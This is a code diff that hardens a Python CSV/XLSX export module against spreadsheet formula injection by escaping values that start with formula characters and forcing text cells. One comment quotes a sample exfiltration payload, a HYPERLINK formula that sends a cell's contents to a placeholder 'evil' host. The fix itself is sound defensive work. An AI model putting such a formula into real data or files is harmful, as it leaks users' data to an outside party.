@@ -29,6 +29,18 @@ FORMATS = {"csv": CSV, "xlsx": XLSX}
 PAGE = "200"  # the largest page every list takes
 _DECIMAL = re.compile(r"-?\d+\.\d+")
 _DAY = re.compile(r"\d{4}-\d{2}-\d{2}")
+# What a spreadsheet program takes for the start of a formula (OWASP "CSV injection"): a client named
+# `=HYPERLINK("http://evil/?"&A1,"Open")` would run in the head of sales' Excel.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")
+
+
+def spreadsheet_safe(value: str) -> str:
+    """Text a spreadsheet program shows as text: one that would start a formula gets a leading apostrophe
+    (what Excel itself writes for text typed with one). Numbers, negative ones too, stay as they are."""
+    if value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
 
 
 def wanted_format(query: list[tuple[str, str]], accept: str) -> str | None:
@@ -77,7 +89,7 @@ def text(value: Any) -> str:
         return ""
     if value is True or value is False:
         return "true" if value else "false"
-    return str(value)
+    return spreadsheet_safe(str(value))
 
 
 def rows_of(body: Any) -> tuple[list | None, str | None]:
@@ -121,9 +133,18 @@ class _Sheet:
 
     def _write(self, values: list, header: bool = False) -> None:
         if self.fmt == "xlsx":
-            self.sheet.append(values if header else [cell(v) for v in values])
+            self.sheet.append([self._text_cell(v) if isinstance(v, str) else v
+                               for v in (values if header else [cell(v) for v in values])])
         else:
             self.writer.writerow([text(v) for v in values])
+
+    def _text_cell(self, value: str):
+        # openpyxl writes any string that starts with "=" as a formula; a text cell stays text whatever it holds.
+        from openpyxl.cell import WriteOnlyCell
+
+        c = WriteOnlyCell(self.sheet, value=value)
+        c.data_type = "s"
+        return c
 
     def _take(self) -> bytes:
         if self.fmt == "xlsx":
